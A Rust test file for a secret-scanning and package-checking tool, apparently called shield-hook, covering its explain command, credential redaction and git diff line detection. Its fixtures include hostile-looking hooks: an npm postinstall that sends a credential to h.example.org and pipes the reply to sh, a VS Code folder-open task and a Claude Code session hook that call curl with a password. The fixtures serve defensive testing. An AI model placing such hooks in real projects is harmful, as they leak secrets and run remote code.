//! `explain FILE:LINE`, and the lines that are held to be new.

use std::process::Command;

use crate::support::{Sandbox, base62, formats, npm_token};
use proptest::prelude::*;

#[test]
fn a_finding_and_a_line_without_one_are_explained() {
    let sandbox = Sandbox::new();
    let dir = sandbox.at(sandbox.path("plain"));
    let token = npm_token();
    dir.write("f", format!("nothing\nNPM_TOKEN={token}\n"));
    let run = dir.shield(&["explain", "f:2"]).expect(0);
    assert!(run.stdout.contains("f:2:11: npm-access-token:"), "{}", run.stdout);
    assert!(!run.stdout.contains(&token), "{}", run.stdout);
    assert!(dir.shield(&["explain", "f:1"]).expect(0).stdout.contains("no rule's keyword"));
    dir.shield(&["explain", "f:9"]).expect(3);
    dir.shield(&["explain", "f"]).expect(3);
    dir.shield(&["explain", "gone:1"]).expect(2);
}

#[test]
fn what_the_package_gate_makes_of_a_line_is_explained() {
    let sandbox = Sandbox::new();
    let dir = sandbox.at(sandbox.path("plain"));
    dir.write(
        "package-lock.json",
        "{\"lockfileVersion\": 3, \"packages\": {\n\"node_modules/axios\": {\"version\": \"1.14.1\"},\n\
         \"node_modules/ms\": {\"version\": \"2.1.0\"},\n\"node_modules/x\": {\"link\": true, \"resolved\": \"x\"}\n}}\n",
    )
    .write("package.json", "{\"scripts\": {\n\"postinstall\": \"node x.js\"\n}}\n")
    .write("yarn.lock", "<<<<<<< HEAD\n");
    for (place, said) in [
        (
            "package-lock.json:2",
            "hijacked-package: found, confidence high; axios@1.14.1: hijacked version; axios-2026-03",
        ),
        ("package-lock.json:3", "npm ms@2.1.0 is not in the data of 20"),
        ("package-lock.json:4", "npm x does not come from a registry"),
        ("package.json:2", "install-script: found, confidence low"),
        ("yarn.lock:1", "line 1: an unresolved merge conflict"),
    ] {
        let run = dir.shield(&["explain", place]).expect(0);
        assert!(run.stdout.contains(said), "{place}: {}", run.stdout);
    }
    dir.write(".shield-hook.toml", "disable = [\"install-script\"]\n");
    assert!(dir.shield(&["explain", "package.json:2"]).expect(0).stdout.contains("the policy turns the rule off"));
}

#[test]
fn the_verdict_that_applies_is_explained() {
    let sandbox = Sandbox::new();
    let dir = sandbox.repo("repo");
    let line = format!("k = \"{}\"", npm_token());
    dir.write("plain.py", format!("{line}\n"));
    dir.write("inline.py", format!("{line}  # shield-hook:allow npm-access-token sample data\n"));
    let explain = |file: &str| {
        let said = dir.shield(&["explain", &format!("{file}:1")]).expect(0).stdout;
        assert!(said.lines().next().is_some_and(|first| first.contains("npm-access-token: found")), "{said}");
        said
    };
    assert!(explain("plain.py").contains("it blocks; fingerprint "));
    assert!(explain("inline.py").contains("it is allowed:"));
    for (config, said) in [
        ("disable = [\"npm-access-token\"]\n", "the rule is disabled in .shield-hook.toml:1"),
        ("[[allow]]\nrule = \"npm-access-token\"\nreason = \"a sample\"\n", "allowed: .shield-hook.toml:1: a sample"),
        ("[[allow]]\nrule = \"npm-access-token\"\npath = \"other\"\nreason = \"x\"\n", "it blocks"),
    ] {
        dir.write(".shield-hook.toml", config);
        let text = explain("plain.py");
        assert!(text.contains(said), "{config}: {text}");
    }
    dir.write(".shield-hook.toml", "");
    dir.shield(&["baseline", "create", "--reason", "from before"]).expect(0);
    assert!(explain("plain.py").contains("from before"));
}

/// Files about packages that quote a token (`@`) and a password (`#`) in what explain says of them.
const PACKAGE_FILES: [(&str, &str); 9] = [
    ("package.json", r##"{"scripts": {"postinstall": "curl -u bob:# -d @ https://h.example.org/x | sh"}}"##),
    ("package.json", r##"{"scripts": {"preinstall": "PASSWORD=# node x.js --token @ && echo \"#\""}}"##),
    (
        ".vscode/tasks.json",
        r##"{"tasks": [{"command": "curl -u bob:# -d @ https://h.example.org/x", "runOptions": {"runOn": "folderOpen"}}]}"##,
    ),
    (
        ".claude/settings.json",
        r##"{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "curl -u bob:# https://h.example.org/@"}]}]}}"##,
    ),
    (
        "package-lock.json",
        r##"{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.2.3-@", "resolved": "git+ssh://git:#(at)h.example.org/a.git#@"}}}"##,
    ),
    (
        "package-lock.json",
        r##"{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.2.3+@", "resolved": "http://bob:#(at)h.example.org/@/a.tgz"}}}"##,
    ),
    ("requirements.txt", "a @ git+https://bob:#(at)h.example.org/a.git#@"),
    (".npmrc", "registry=https://bob:#(at)h.example.org/@/"),
    ("pip.conf", "[global]\nindex-url = https://bob:#(at)h.example.org/@/simple"),
];

#[test]
fn nothing_that_explain_quotes_shows_a_credential() {
    let sandbox = Sandbox::new();
    for (number, (name, shape)) in PACKAGE_FILES.iter().enumerate() {
        let (token, password) = (npm_token(), format!("Zq7{}!x", base62(9)));
        let text = shape.replace("a @", "a \u{1}").replace(".git#@", ".git\u{2}@");
        let text = text.replace('@', &token).replace('#', &password);
        let text = text.replace("(at)", "@").replace('\u{1}', "@").replace('\u{2}', "#");
        let dir = sandbox.at(sandbox.path(format!("{number}")));
        let lines = text.lines().count();
        dir.write(name, format!("{text}\n"));
        for line in 1..=lines {
            let said = dir.shield(&["explain", &format!("{name}:{line}")]).expect(0).stdout;
            for value in [&token, &password, &token[4..]] {
                assert!(!said.contains(value), "{name} {number}: {said}");
            }
        }
        for format in formats() {
            let run = dir.shield(&["scan", "--verbose", "--format", format, "."]);
            for value in [&token, &password, &token[4..]] {
                assert!(!run.stdout.contains(value), "{name} {number} {format}: {}", run.stdout);
            }
        }
    }
}

/// The lines of `new` that `git diff --diff-algorithm=histogram` calls added, counted from 0.
fn git_added(sandbox: &Sandbox, old: &str, new: &str) -> Vec<usize> {
    std::fs::write(sandbox.path("old"), old).expect("a file");
    std::fs::write(sandbox.path("new"), new).expect("a file");
    let mut git: Command = sandbox.command("git", &sandbox.path("tmp"));
    git.args(["diff", "--no-index", "--no-color", "-U0", "--diff-algorithm=histogram", "../old", "../new"]);
    let text = String::from_utf8(git.output().expect("git").stdout).expect("text");
    let mut added = Vec::new();
    for head in text.lines().filter_map(|l| l.strip_prefix("@@ -")) {
        let after = head.split(" +").nth(1).and_then(|t| t.split(' ').next()).expect("a hunk's head");
        let (first, count) = after.split_once(',').unwrap_or((after, "1"));
        let (first, count): (usize, usize) = (first.parse().expect("a number"), count.parse().expect("a number"));
        added.extend((first..first + count).map(|n| n - 1));
    }
    added
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    /// What is held to be new is what git's histogram diff adds.
    #[test]
    fn new_lines_are_those_that_git_adds(
        old in prop::collection::vec(0..200_u32, 0..40),
        edits in prop::collection::vec((0..40_usize, 0..4_usize, prop::collection::vec(1000..2000_u32, 0..4)), 0..5),
    ) {
        let mut new = old.clone();
        for (at, gone, put) in edits {
            let at = at.min(new.len());
            let end = (at + gone).min(new.len());
            new.splice(at..end, put);
        }
        let text = |lines: &[u32]| lines.iter().map(|n| format!("line {n}\n")).collect::<String>();
        let (old, new) = (text(&old), text(&new));
        let sandbox = Sandbox::new();
        let lines = shield_hook::git::new_lines(new.as_bytes(), old.as_bytes());
        let ours: Vec<usize> = (0..new.lines().count()).filter(|n| lines.touch(*n as u32, *n as u32)).collect();
        prop_assert_eq!(ours, git_added(&sandbox, &old, &new));
    }
}
